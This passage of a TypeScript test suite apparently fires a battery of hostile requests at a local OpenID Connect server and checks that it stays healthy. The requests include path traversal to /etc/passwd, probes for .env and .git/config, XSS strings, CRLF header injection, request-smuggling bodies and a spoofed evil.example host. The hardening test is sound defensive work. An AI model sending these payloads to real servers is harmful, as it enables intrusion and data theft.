    `/${encodeURIComponent(XSS[0]!)}`,
    '/assets/../../../../etc/passwd',
    '/assets/%2e%2e/%2e%2e/etc/passwd',
    '/%2e%2e/%2e%2e/',
    '/.env',
    '/.git/config',
    '/.well-known/openid-configuration/../../etc/passwd',
    '/jwks?x=%%%',
    '/device',
    '/register',
    '/par',
    '/readyz?x=<script>',
    '/metrics',
  ]) {
    await send(`GET ${path}`, path, { headers: { accept: 'text/html' } });
  }
  await send('discovery with hostile Accept-Language', '/.well-known/openid-configuration', {
    headers: { 'accept-language': `${XSS[0]!.replace(/[<>]/g, '')};q=abc, *;q=-1` },
  });
  await send('login page with hostile Accept-Language', `/interaction/${page.uid}`, {
    agent: page.agent,
    headers: { 'accept-language': 'x'.repeat(4000) },
  });
  await send('X-Forwarded-Host spoof', authorizeUrl({ ...validAuthorize, client_id: 'nope' }), {
    headers: { 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'https' },
  });
  await send('hostile X-Request-Id', '/healthz', { headers: { 'x-request-id': XSS[0]!.replace(/[<>]/g, '') } });
  for (const method of ['OPTIONS', 'PATCH', 'DELETE', 'HEAD']) {
    for (const path of ['/token', '/authorize', '/userinfo', '/interaction/x/login']) {
      const result = await send(`${method} ${path}`, path, {
        method,
        headers: { origin: EVIL, 'access-control-request-method': 'POST' },
      });
      // The engine's back-channel endpoints answer CORS until they know the client, then check the
      // origin against its redirect URIs (below, with a token); the authorization endpoint and our
      // pages have no CORS at all (RFC 9700 §2.6 forbids it at the authorization endpoint).
      if (path === '/authorize' || path.startsWith('/interaction')) {
        assert.equal(
          result.headers.get('access-control-allow-origin'),
          null,
          `no CORS for an unregistered origin on ${method} ${path}`,
        );
      }
    }
  }
  const port = issuer.port;
  const rawRequests: Array<[string, string, boolean?]> = [
    [
      'CRLF in request target',
      `GET /authorize?state=a\r\nX-Injected: 1 HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nConnection: close\r\n\r\n`,
    ],
    ['bare LF request', `GET /healthz HTTP/1.1\nHost: 127.0.0.1:${port}\n\n`],
    ['no Host header', 'GET /authorize HTTP/1.1\r\n\r\n'],
    ['hostile Host header', `GET /authorize?client_id=x HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n`],
    ['two Host headers', `GET /.well-known/openid-configuration HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n`],
    [
      'invalid percent encoding in path',
      `GET /interaction/%E0%A4%A HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nConnection: close\r\n\r\n`,
    ],
    [
      'invalid percent encoding in query',
      `GET /authorize?client_id=%E0%A4%A&state=%ZZ HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nConnection: close\r\n\r\n`,
    ],
    [
      'raw UTF-8 in path',
      `GET /interaction/\u00e9\u00e8 HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nConnection: close\r\n\r\n`,
    ],
    ['header with CRLF value', `GET /healthz HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nX-Request-Id: a\r\n b\r\n\r\n`],
    [
      'content-length mismatch',
      `POST /token HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nContent-Type: application/x-www-form-urlencoded\r\nAuthorization: ${basic}\r\nContent-Length: 100\r\n\r\ngrant_type=client_credentials`,
      true,
    ],
    [
      'content-length and chunked',
      `POST /token HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
    ],
    [
      'invalid chunked body',
      `POST /token HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\nZZ\r\nxx\r\n0\r\n\r\n`,
    ],
    ['huge header', `GET /healthz HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nX-Big: ${'a'.repeat(20_000)}\r\n\r\n`],
    ['HTTP/0.9', 'GET /\r\n', true],
    ['garbage', '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03 not http at all\r\n\r\n'],
    [
      'absolute-form target to another host',
      `GET http://evil.example/authorize HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n`,
    ],
    [
      'login POST with wrong length',
      `POST /interaction/${page.uid}/login HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 99999\r\n\r\ncsrf=x`,
      true,
    ],
  ];
  for (const [name, request, halfClose] of rawRequests) await raw(name, request, halfClose);

  // --- afterwards: healthy ------------------------------------------------------------------------
  const ready = await fetch(`${idp.issuer}/readyz`);
  assert.equal(ready.status, 200, 'ready after the battery');
  const normal = await exchange(rp, await authorize(idp, rp, { email: user.email }));
  assert.ok(normal.access_token, 'a normal sign-in works after the battery');
  const info = await oidc.fetchUserInfo(rp, normal.access_token, user.id);
  assert.equal(info.sub, user.id);

  const serverErrors = [...statuses].filter(([status]) => status >= 500).reduce((sum, [, count]) => sum + count, 0);
  console.log(
    `hostile battery: sent ${sent} requests, ${serverErrors} responses >= 500 (statuses ${JSON.stringify(Object.fromEntries([...statuses].sort(([a], [b]) => a - b)))})`,
  );
  assert.ok(sent >= 300, `at least 300 hostile requests (sent ${sent})`);
  assert.deepEqual(problems, [], 'no 5xx, stack trace, unescaped payload, open redirect or injected header');
});
